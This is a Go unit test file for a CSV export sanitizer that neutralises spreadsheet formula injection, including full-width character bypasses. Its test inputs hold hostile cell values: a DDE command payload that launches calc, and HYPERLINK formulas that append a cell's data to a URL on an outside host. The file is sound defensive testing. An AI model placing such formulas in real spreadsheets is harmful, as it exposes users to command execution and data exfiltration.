package csvreport_test

import (
	"strings"
	"testing"

	"github.com/quickstream-go/quickstream/csvreport"
)

func TestSafe(t *testing.T) {
	for cell, want := range map[string]string{
		"":                             "",
		"plain":                        "plain",
		"=1+1":                         "'=1+1",
		"=HYPERLINK(\"x\")":            "'=HYPERLINK(\"x\")",
		"+61 2":                        "'+61 2",
		"@SUM(A1)":                     "'@SUM(A1)",
		"\tx":                          "'\tx",
		"\r=1":                         "'\r=1",
		"\n=1":                         "'\n=1",
		"-1+cmd|' /C calc'!A0":         "'-1+cmd|' /C calc'!A0",
		"-":                            "'-",
		"-12.50":                       "-12.50",
		"-7":                           "-7",
		"-7.":                          "'-7.",
		"-1e5":                         "'-1e5",
		"- 7":                          "'- 7",
		"--7":                          "'--7",
		"＝1+1":                         "'＝1+1",
		"＋61 2":                        "'＋61 2",
		"－1+cmd":                       "'－1+cmd",
		"－12.50":                       "'－12.50",
		"＠SUM(A1)":                     "'＠SUM(A1)",
		"1＝1":                          "1＝1",
		"\uff1e1":                      "\uff1e1", // full-width too, and no formula
		"\ufffd=1":                     "\ufffd=1",
		"\xef\xbc=1":                   "\xef\xbc=1",
		"1=1":                          "1=1",
		" =1":                          " =1",
		"'=1":                          "'=1",
		"-" + strings.Repeat("9", 100): "'-" + strings.Repeat("9", 100),
	} {
		if got := csvreport.Safe(cell); got != want {
			t.Errorf("%q: got %q, want %q", cell, got, want)
		}
	}
}

// TestAttackFullWidthFormula writes formulas in full-width characters, which
// spreadsheets take for ASCII ones where such an input method is common. A guard
// that knows the ASCII ones only lets them through.
func TestAttackFullWidthFormula(t *testing.T) {
	naive := func(cell string) string {
		if cell != "" && strings.Contains("=+-@\t\r\n", cell[:1]) {
			return "'" + cell
		}
		return cell
	}
	executes := func(cell string) bool { // as such a spreadsheet does
		return strings.HasPrefix(strings.NewReplacer("＝", "=", "＋", "=", "－", "=", "＠", "=").Replace(cell), "=")
	}
	for _, start := range []string{"＝", "＋", "－", "＠"} {
		cell := start + `HYPERLINK("http://example.com/?"&A1,"refund")`
		if !executes(naive(cell)) {
			t.Errorf("%s: the naive guard does not fall for it", start)
		}
		if safe := csvreport.Safe(cell); executes(safe) || safe != "'"+cell {
			t.Errorf("%s: got %q", start, safe)
		}
	}
}
